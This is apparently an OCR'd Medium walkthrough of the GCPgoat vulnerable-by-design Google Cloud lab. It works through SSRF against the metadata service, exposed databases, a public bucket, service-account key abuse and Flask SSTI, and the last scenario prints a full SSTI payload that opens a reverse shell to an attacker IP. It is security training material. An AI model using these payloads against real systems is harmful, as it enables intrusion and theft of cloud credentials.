GCPgoat Scenarios


Scenario-1 Attacking Compute Engine


Web Server:

2. Enumerating web server and finding ssrf-

a. This web app loads websites and shows http responses-

b. Intercept the http traffic in burp proxy and submit collaborator domain in url we got HTTP interaction from IPvalidating the SSRF-

3. Exploiting SSRF-

Header- Metadata-Flavor: Google

Note: “Metadata-Flavor: Google” http header is required with ssrf request in GCP.


We are able to fetch meta-data of the Compute-Engine

Scenario-2 Attacking SQL instance

./create-scenario2.sh apna-sql-instance2. Connecting to publicly accessible mysql instance-

Note: This scenario assumes there was no authentication for the database, but in the real world may find some weak credentials

Scenario-3 Attacking Google Kubernetes Engine


2. Scenario Info-

GKE allows the user to set up the Kubernetes environment without much hassle, By default, the application running in the pod are not exposed outside the world. To access the service outside the cluster there are 3 types of services can be use

  1. NodePort
  2. Loadbalancer
  3. Ingress

Sometimes the application exposed via Nodeport maycontain sensitive information or services which meant to be used internally without authentication.

3. Finding out publicly exposed mongodb instance-

a. Type the below command the in the GCLOUD SHELL to find the IP of nodes

kubectl get nodes -o wide

b. Port scanning and service version scanning-

nmap -Pn --disable-arp-ping -vv -n -sS -T5 -p-
nmap -Pn --disable-arp-ping -vv -n -sS -T5 -p 22,3389,30003 -sV --version-all

Port 30003 seems interesting, Nmap is unable to determine the service running on this port.

c. Manually enumerating the port-

nc 30003

4. Connecting to MongoDB-

mongo --host

Scenario-4 Attacking Google Cloud Storage./create-scenario-4.sh gokuvsvegeta

2. Scenario info-

Public-Facing Google Bucket is the most common vulnerability in the GCP environment Users often create the bucket with public access in order to use the data stored in the bucket to be used by external applications, Sometimes this leads leakage of sensitive information

3. Bucket leaking sensitive information-


Scenario-5 Privilege escalation Using a Service account

  1. Deployment

2. Scenario info-
Google Container Registry Allows storing our container Registry Google Container Registry uses Google Storage Bucket to store theimage So anyone with admin access to the bucket can download the image.

3. Save the service-key.json and use it-

gcloud auth activate-service-account --key-file=service-key.json

3. Listing the containers stored in Google Container Registry-

gcloud container images list


4. Running the container and reading secret-

docker run  --rm  -it  gcr.io/<project-name>/secret:v1 sh

secret- super-secret

Scenario-6 Privilege Escalation in Compute Engine


ssh into compute instance and run the below command to start web server-

curl https://raw.githubusercontent.com/JOSHUAJEBARAJ/hack/main/setup.sh | sh2. Scenario info-

The default service account created with the VM Instance doesn’t follow the least privilege principle by default its ability to access the Google cloud bucket.

3. Accessing this web server via the public IP of compute instance-

4. Enumerating web server-

a. Directory brute-forcing-

dirsearch -u

b. Upon visiting /page. We got http response code 500 internal server error in response-

c. Bruteforcing parameters using arjun -name parameter found!

d. Visiting url with name GET parameter-

5. Testing name parameter for injection vulnerabilities-

a. Finding SSTI

Wappalyzer detects web app using flask framework.

SSTI payload is being executed!{{7*7}}

6. Exploiting SSTI to get rev shell-


{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen("python3 -c  'import pty;import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"<Your_ip>\",<Port>));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn(\"/bin/bash\");'").read().zfill(417)}}{%endif%}{% endfor %}

7. Listing buckets from compute instance(instance haspermissions)-

gsutil lsGet the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says'Get it on, Google Play', and if clicked it willlead you to the Google Play store